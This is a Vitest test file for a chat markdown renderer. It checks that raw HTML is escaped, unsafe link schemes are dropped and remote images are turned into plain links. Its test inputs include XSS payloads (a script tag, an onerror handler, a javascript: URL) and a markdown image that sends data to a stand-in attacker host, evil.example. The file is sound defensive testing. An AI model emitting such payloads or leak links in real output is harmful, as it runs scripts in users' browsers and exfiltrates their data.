import { describe, expect, it } from 'vitest';
import { render, linkTarget } from './markdown';

describe('render', () => {
  it('escapes raw HTML from the model', () => {
    const html = render('Hi <script>alert(1)</script> <img src=x onerror=alert(2)>');
    const div = document.createElement('div');
    div.innerHTML = html;
    expect(div.querySelector('script')).toBeNull();
    expect(div.querySelector('img')).toBeNull();
    expect(div.textContent).toContain('<script>alert(1)</script>');
  });

  it('keeps http links and drops javascript: ones', () => {
    const div = document.createElement('div');
    div.innerHTML = render('[ok](https://example.com/a) [bad](javascript:alert(1)) [data](data:text/html,x)');
    const hrefs = [...div.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com/a']);
  });

  it('turns a remote image into a visible link, never an <img>', () => {
    const div = document.createElement('div');
    div.innerHTML = render('![secret](https://evil.example/leak?d=abc)');
    expect(div.querySelector('img')).toBeNull();
    expect(div.textContent).toContain('[image: secret]');
  });

  it('keeps single line breaks, as typed in a chat', () => {
    expect(render('line one\nline two')).toContain('<br>');
  });

  it('renders code blocks', () => {
    expect(render('```go\nfmt.Println("hi")\n```')).toContain('<pre><code class="language-go">');
  });
});

describe('linkTarget', () => {
  it('returns only http(s) targets', () => {
    const a = document.createElement('a');
    a.setAttribute('href', 'https://example.com');
    expect(linkTarget(a)).toBe('https://example.com');
    a.setAttribute('href', 'mailto:x@example.com');
    expect(linkTarget(a)).toBeNull();
  });
});
